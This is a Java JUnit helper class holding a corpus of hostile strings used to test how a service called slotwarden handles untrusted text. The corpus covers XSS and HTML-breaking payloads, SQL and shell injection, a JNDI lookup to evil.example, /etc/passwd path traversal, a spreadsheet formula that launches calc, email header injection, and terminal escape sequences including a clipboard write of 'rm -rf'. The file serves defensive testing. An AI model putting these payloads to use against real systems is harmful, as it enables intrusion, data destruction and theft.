package io.slotwarden.testing;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.params.provider.Arguments;

/// What an enemy writes into names, failure messages and tags: into everything that comes from a
/// database or an account. Each place where slotwarden shows, sends or stores text is tried with
/// all of it.
public final class Hostile {
  /// More than any field, line or message is meant to hold.
  public static final int LONG = 64 * 1024;

  private static final int IDENTIFIER_BYTES = 63;
  private static final Map<String, String> CORPUS = corpus();

  private Hostile() {}

  /// The texts, each with what it tries as its name.
  public static Stream<Arguments> texts() {
    return CORPUS.entrySet().stream().map(e -> Arguments.of(Named.of(e.getKey(), e.getValue())));
  }

  /// The same without their names.
  public static List<String> all() {
    return List.copyOf(CORPUS.values());
  }

  /// Those that PostgreSQL takes as a name: up to 63 bytes of UTF-8, no NUL, no half of a
  /// character, not empty.
  public static List<String> identifiers() {
    return CORPUS.values().stream()
        .filter(t -> !t.isEmpty() && t.indexOf('\0') < 0)
        .filter(t -> new String(bytes(t), StandardCharsets.UTF_8).equals(t))
        .filter(t -> bytes(t).length <= IDENTIFIER_BYTES)
        .toList();
  }

  /// True for what moves a cursor, turns writing around or is not seen.
  public static boolean isHidden(int codePoint) {
    return switch (Character.getType(codePoint)) {
      case Character.CONTROL,
          Character.FORMAT,
          Character.SURROGATE,
          Character.LINE_SEPARATOR,
          Character.PARAGRAPH_SEPARATOR ->
          true;
      default -> false;
    };
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static Map<String, String> corpus() {
    Map<String, String> c = new LinkedHashMap<>();
    c.put("quotes", "it's \"so\" ''\"\" «»");
    c.put("backslashes", "a\\b\\\\c\\n\\u0041\\");
    c.put("line breaks", "one\ntwo\r\nthree\rfour\u0085five\u2028six\u2029seven");
    c.put("a forged log line", "x\n2026-01-01T00:00:00.000Z INFO  event=\"drop\" outcome=\"ok\"");
    c.put("NUL and other controls", "a\0b\u0001c\u0007d\be\u007ff\tg");
    c.put("a cleared screen", "a\u001b[2J\u001b[1;1Hb\u001b[31mc");
    c.put("a title and a clipboard", "\u001b]0;title\u0007\u001b]52;c;cm0gLXJm\u001b\\x");
    c.put("controls of C1", "a\u009b2Jb\u009d0;t\u009cc\u0090q\u009c");
    c.put("bidi overrides", "\u202egnp.exe\u202d\u202c\u202a\u202b");
    c.put("bidi isolates", "a\u2066b\u2067c\u2068d\u2069e\u200ef\u200f\u061c");
    c.put("zero width", "or\u200bde\u200crs\u200d\u2060\ufeff\u00adx");
    c.put("tags beyond the plane", "a\udb40\udc41\udb40\udc7fb");
    c.put("a script", "<script>window.pwned=1;document.title='pwned'</script>");
    c.put("a broken attribute", "\" autofocus onfocus=window.pwned=1 x='` onload=window.pwned=1 ");
    c.put("an image", "'><img src=//evil.example/a onerror=window.pwned=1>&amp;&lt;");
    c.put("a script's address", "javascript:window.pwned=1//%0awindow.pwned=1");
    c.put("closed elements", "</title></script></textarea></noscript>--><!--<svg/onload=alert(1)>");
    c.put("a template", "${7*7} {{7*7}} @{x} #{7*7} <%= 7 %> @template.x()");
    c.put("Slack's mentions", "<!channel> <!here> <!everyone> <@U123> <#C123|x> <!subteam^S1>");
    c.put("Slack's links", "<http://evil.example|the runbook> <mailto:a@evil.example|b>");
    c.put("Slack's escapes", "&lt;!channel&gt; &amp;lt;!channel&amp;gt; @channel @here");
    c.put("mark-up", "*bold* _tmp_ ~gone~ `code` ```block``` > quoted :red_circle:");
    c.put("Markdown", "# x [a](http://evil.example) ![b](//evil.example/b) | c | **d** `e` - f");
    c.put("a Markdown block", "```\n</code></pre>\n# heading\n| a | b |\n|---|---|\n");
    c.put("SQL", "x'; drop table orders; --");
    c.put("SQL identifiers", "x\"; drop table orders; --");
    c.put("SQL dollars", "$$; drop table orders; $$ $1 %I %s ? ?? :a {fn x}");
    c.put("references", "${env:HOME} ${file:/etc/passwd} ${jndi:ldap://evil.example/a}");
    c.put("formats", "%s %n %d %1$s %%x{} {0} %msg %kvp");
    c.put("a shell", "$(id) `id` ; id | id && id > /tmp/x \\ '$HOME'");
    c.put("a label of Prometheus", "a\"} 1\nslotwarden_leader 7\\");
    c.put("performance data", "fine|free=0;;;; | x");
    c.put("a header", "x\r\nBcc: all@evil.example\r\n\r\nbody");
    c.put("a path", "../../etc/passwd%00%2f..;/?a=b#c");
    c.put("JSON", "\",\"severity\":\"info\",\"x\":{\"y\":[1,2]},\"z\":\"");
    c.put("YAML", "&a *a !!x {a: b} [c] - d # e");
    c.put("a formula", "=cmd|' /C calc'!A0");
    c.put("half of a character", "a\ud800b\udc00\ud83d");
    c.put("no characters", "\ufffe\uffff\ufdd0");
    c.put("combining marks", "a\u0301\u0301\u0301\u0301z\u0489\u20dd");
    c.put("other writing", "Ünïcödé 转账 🐘 👩‍👩‍👧 אבג العربية");
    c.put("blanks", " \t\u00a0\u3000 ");
    c.put("nothing", "");
    c.put("64 KB of letters", "x".repeat(LONG));
    c.put("64 KB of markup", "<&>\"'`*_|".repeat(LONG / 9 + 1));
    c.put("64 KB of lines", "a\n".repeat(LONG / 2));
    c.put("64 KB beyond the plane", "🐘".repeat(LONG / 4));
    return c;
  }
}
